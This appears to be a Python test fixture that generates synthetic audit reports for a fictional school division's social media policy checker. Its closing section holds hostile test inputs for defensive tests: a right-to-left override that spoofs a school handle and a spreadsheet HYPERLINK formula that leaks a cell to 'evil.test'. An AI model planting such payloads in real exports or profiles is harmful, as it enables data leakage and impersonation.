"""Synthetic, schema-valid report dicts for the report writers and notification tests.

Fictional division, schools, accounts and people only. `make_report(n)` is deterministic for a
given seed, so a test can compute what it expects from the same dict it renders.
"""

from __future__ import annotations

import copy
import json
import random
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import jsonschema

from auditor.report.build import summarize

SCHEMA_PATH = Path(__file__).resolve().parents[3] / "auditor" / "report" / "report.schema.json"
SEVERITY_RANK = {"info": 0, "low": 1, "medium": 2, "high": 3, "critical": 4}
AS_OF = datetime(2026, 11, 15, 6, 0, tzinfo=UTC)

SCHOOLS = {
    "Hillside High School": [
        ("hhs-main-x", "twitter", "@hillside_hs"),
        ("hhs-robotics-x", "twitter", "@hhs_robotics"),
        ("hhs-athletics-fb", "facebook", "Hillside Hawks Athletics"),
    ],
    "Riverbend Elementary": [
        ("rbe-news-fb", "facebook", "Riverbend Elementary News"),
        ("rbe-reading-group", "facebook", "RBE Reading Buddies"),
    ],
    "Maple Ridge Junior High": [
        ("mrj-band-yt", "youtube", "@mapleridgeband"),
        ("mrj-main-x", "twitter", "@mapleridge_jh"),
    ],
}

RULES: list[dict[str, Any]] = [
    {
        "rule": "admin-not-active-staff",
        "title": "Admin is not active staff",
        "section": "Account Management; Online Interactions",
        "severity": "high",
        "clause": "Only active staff members may hold administrative access to a school social media account.",
        "remediation": "Remove the admin's access and record the change with ITS.",
    },
    {
        "rule": "too-few-staff-admins",
        "title": "Fewer than two staff admins",
        "section": "Online Interactions",
        "severity": "high",
        "clause": "At least two staff members shall have administrative access to each account.",
        "remediation": "Add a second staff administrator.",
    },
    {
        "rule": "password-reset-overdue",
        "title": "Password reset overdue",
        "section": "Account Management",
        "severity": "medium",
        "clause": "Passwords shall be changed at least once a year.",
        "remediation": "Reset the password and record the date in the registry.",
    },
    {
        "rule": "non-school-participant",
        "title": "Participant outside the school body",
        "section": "Online Interactions",
        "severity": "high",
        "clause": "Participation is limited to members of the school body and the Division administration team.",
        "remediation": "Remove the participant or confirm who they are.",
    },
    {
        "rule": "confidential-content",
        "title": "Confidential information posted",
        "section": "Proper Conduct; Confidentiality of Information",
        "severity": "critical",
        "clause": "Confidential information about students shall not be posted.",
        "remediation": "Delete the post and tell the principal.",
    },
    {
        "rule": "account-not-reviewed",
        "title": "Registration not reviewed by ITS",
        "section": "Establishing Social Media Accounts",
        "severity": "low",
        "clause": "Accounts should be registered with ITS.",
        "remediation": "Have the Director of ITS review the registration.",
    },
    {
        "rule": "participant-summary",
        "title": "Participants not matched on a public account",
        "section": "Online Interactions",
        "severity": "info",
        "clause": "Participation is limited to members of the school body.",
        "remediation": "No action needed on a public account; review if it becomes closed.",
    },
]

# Who must act, as auditor.owners names them: each account's holder, each school's principal, ITS for
# the registry's own rules. Staff only, by name and id (fictional).
PRINCIPALS = {
    "Hillside High School": ("E2001", "Avery Lindqvist"),
    "Riverbend Elementary": ("E2002", "Jordan Okafor"),
    "Maple Ridge Junior High": ("E2003", "Riley Marchetti"),
}
ITS_RULES = {"account-not-reviewed"}


def owners_of(school: str, account: str, rule: str) -> list[dict[str, str]]:
    keys = [key for items in SCHOOLS.values() for key, _, _ in items]
    number = keys.index(account) + 1
    owners = [
        {
            "person_id": f"E30{number:02d}",
            "name": f"{FIRST[number % len(FIRST)]} {LAST[number % len(LAST)]}",
            "role": "holder",
        }
    ]
    principal_id, principal_name = PRINCIPALS[school]
    owners.append({"person_id": principal_id, "name": principal_name, "role": "principal"})
    if rule in ITS_RULES:
        owners.append({"name": "ITS", "role": "its"})
    return owners


FIRST = ["Avery", "Jordan", "Riley", "Morgan", "Casey", "Quinn", "Rowan", "Sasha", "Emerson", "Parker"]
LAST = ["Lindqvist", "Okafor", "Marchetti", "Tremblay", "Nakamura", "Oyelaran", "Castellanos", "Whitford"]


def load_schema() -> dict[str, Any]:
    return json.loads(SCHEMA_PATH.read_text(encoding="utf-8"))


def validate(report: dict[str, Any]) -> None:
    jsonschema.validate(report, load_schema(), format_checker=jsonschema.FormatChecker())


def all_accounts() -> list[tuple[str, str, str, str]]:
    """(school, account key, platform, handle) for every fictional account."""
    return [(school, key, platform, handle) for school, items in SCHOOLS.items() for key, platform, handle in items]


def make_finding(
    rng: random.Random,
    index: int,
    *,
    school: str,
    account: str,
    platform: str,
    handle: str,
    rule: dict[str, Any],
    status: str = "persisting",
    regressed: bool = False,
    waiver: dict[str, Any] | None = None,
) -> dict[str, Any]:
    name = f"{rng.choice(FIRST)} {rng.choice(LAST)}"
    person_handle = f"@{name.split()[0].lower()}{index}"
    fuzzy = rng.random() < 0.3
    evidence: dict[str, Any] = {
        "source": "observed" if rng.random() < 0.7 else "declared",
        "admin": {
            "identity": f"{name} ({person_handle})",
            "platform_id": str(9_000_000 + index),
            "match_method": "fuzzy-name" if fuzzy else "declared-handle",
            "match_score": round(rng.uniform(92, 99), 1) if fuzzy else 100.0,
        },
        "directory_status": rng.choice(["departed", "unknown", "student"]),
        "admins_counted": [f"staff-{rng.randint(100, 999)}" for _ in range(rng.randint(0, 2))],
    }
    first_seen = AS_OF - timedelta(days=0 if status == "new" else rng.randint(1, 200))
    return {
        "fingerprint": f"{index:06d}{rng.getrandbits(40):010x}",
        "rule": rule["rule"],
        "title": rule["title"],
        "account": account,
        "platform": platform,
        "school": school,
        "handle": handle,
        "severity": rule["severity"],
        "confidence": "likely" if fuzzy else ("declared" if evidence["source"] == "declared" else "certain"),
        "section": rule["section"],
        "clause": rule["clause"],
        "subject": f"{platform}:{9_000_000 + index}",
        "message": f"{rule['title'].lower()}: {name} ({person_handle}) on {handle}",
        "evidence": evidence,
        "remediation": rule["remediation"],
        "owners": owners_of(school, account, rule["rule"]),
        "status": status,
        "regressed": regressed,
        "first_seen": first_seen.isoformat(),
        "first_seen_run": "20260101T060000Z-000001" if status != "new" else "20261115T060000Z-000100",
        "last_seen_run": "20261115T060000Z-000100",
        "url": f"https://example.test/{platform}/{account}/{index}",
        "waiver": waiver,
    }


def make_waiver(kind: str) -> dict[str, Any]:
    """kind: active | soon | expired."""
    expires = {"active": date(2027, 6, 30), "soon": date(2026, 11, 24), "expired": date(2026, 11, 1)}[kind]
    return {
        "reason": f"Approved exception ({kind}): the account is being migrated",
        "approver": "Director of ITS",
        "expires_on": expires.isoformat(),
        "expired": kind == "expired",
        "expiring_soon": kind == "soon",
    }


def coverage_entry(school: str, key: str, platform: str, handle: str, state: str = "complete") -> dict[str, Any]:
    collections = {
        name: {"state": "complete", "reason": None, "error": None, "retry_after": None}
        for name in ("admins", "interactions", "participants", "posts", "profile")
    }
    if platform in ("twitter", "youtube"):
        collections["admins"] = {
            "state": "not_supported",
            "reason": "the API does not show admins",
            "error": None,
            "retry_after": None,
        }
    if state == "partial":
        collections["participants"] = {
            "state": "partial",
            "reason": "follower page cap reached (50 pages)",
            "error": None,
            "retry_after": None,
        }
    elif state == "failed":
        collections["posts"] = {
            "state": "failed",
            "reason": "permission",
            "error": "(#10) Requires pages_read_engagement permission",
            "retry_after": "2026-11-16T06:00:00+00:00",
        }
    return {
        "account": key,
        "platform": platform,
        "school": school,
        "handle": handle,
        "state": state,
        "last_full_reconciliation": "2026-11-01T06:00:00+00:00",
        "audience_declared": "closed" if "group" in key else "public",
        "audience_observed": None if platform == "twitter" else ("closed" if "group" in key else "public"),
        "collections": collections,
    }


def make_report(
    n: int = 40,
    *,
    seed: int = 7,
    coverage_problems: bool = True,
    statuses: tuple[str, ...] = ("new", "persisting", "persisting", "unknown", "resolved", "waived"),
    school: str | None = None,
    validated: bool = True,
) -> dict[str, Any]:
    """A report with `n` findings spread over every account, rule, severity and status.

    `validated=False` skips the schema check, which takes over a minute at 100,000 findings; the
    findings are made the same way as in the validated (smaller) reports."""
    rng = random.Random(seed)
    accounts = all_accounts()
    findings = []
    for index in range(n):
        school_name, key, platform, handle = accounts[index % len(accounts)]
        rule = RULES[index % len(RULES)]
        status = statuses[index % len(statuses)]
        waiver = None
        if status == "waived":
            waiver = make_waiver(("active", "soon")[(index // len(statuses)) % 2])
        elif index % 17 == 5 and status in ("new", "persisting"):
            waiver = make_waiver("expired")
        findings.append(
            make_finding(
                rng,
                index,
                school=school_name,
                account=key,
                platform=platform,
                handle=handle,
                rule=rule,
                status=status,
                regressed=status == "new" and index % 11 == 0,
                waiver=waiver,
            )
        )
    findings.sort(key=lambda f: (f["school"], f["account"], -SEVERITY_RANK[f["severity"]], f["rule"], f["subject"]))
    states = {"rbe-reading-group": "partial", "mrj-band-yt": "failed"} if coverage_problems else {}
    coverage = [coverage_entry(s, k, p, h, states.get(k, "complete")) for s, k, p, h in accounts]
    if school is not None:
        findings = [f for f in findings if f["school"] == school]
        coverage = [c for c in coverage if c["school"] == school]
    report = {
        "schema_version": 1,
        "run": {
            "id": "20261115T060000Z-000100",
            "kind": "run",
            "division": "Prairie Hills Regional Division",
            "started_at": "2026-11-15T06:00:00+00:00",
            "finished_at": "2026-11-15T06:14:12+00:00",
            "as_of": AS_OF.isoformat(),
            "status": "incomplete" if coverage_problems else "complete",
            "exit_code": 3 if coverage_problems else 1,
            "accounts_audited": len(coverage),
            "previous_run": "20261114T060000Z-000099",
            "fail_threshold": "high",
            "policy_digest": "1abd2b23732961b3",
            "school": school,
            "spend": {"requests": {"twitter": {"GET /2/users": 3}}, "units": {"youtube": 12}, "estimated_cost": 0.04},
        },
        "summary": summarize(findings),
        "coverage": coverage,
        "findings": findings,
    }
    if validated:
        validate(report)
    return report


# --- hostile text a platform can hand us (names, handles, post text) ----------------------------

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE
SPOOFED_HANDLE = RLO + "sh_edisllih@"  # a browser honouring the override shows "@hillside_hs"
FORMULA_SUBJECT = '=HYPERLINK("https://evil.test/?leak="&A2,"Open the post")'
TEN_MB = 10 * 1024 * 1024  # 10,485,760 characters


def post_text(length: int) -> str:
    """Post text of exactly `length` characters."""
    sentence = "Great game tonight, Hawks! Thanks to every family who came out. "
    return (sentence * (length // len(sentence) + 1))[:length]


def with_hostile_finding(report: dict[str, Any], **fields: Any) -> dict[str, Any]:
    """A copy of `report` whose first finding is a new one (fingerprint `hostile`) carrying `fields`."""
    report = copy.deepcopy(report)
    hostile = copy.deepcopy(report["findings"][0])
    hostile.update(fingerprint="hostile", status="new", regressed=False, waiver=None, **fields)
    report["findings"].insert(0, hostile)
    report["summary"] = summarize(report["findings"])
    validate(report)
    return report
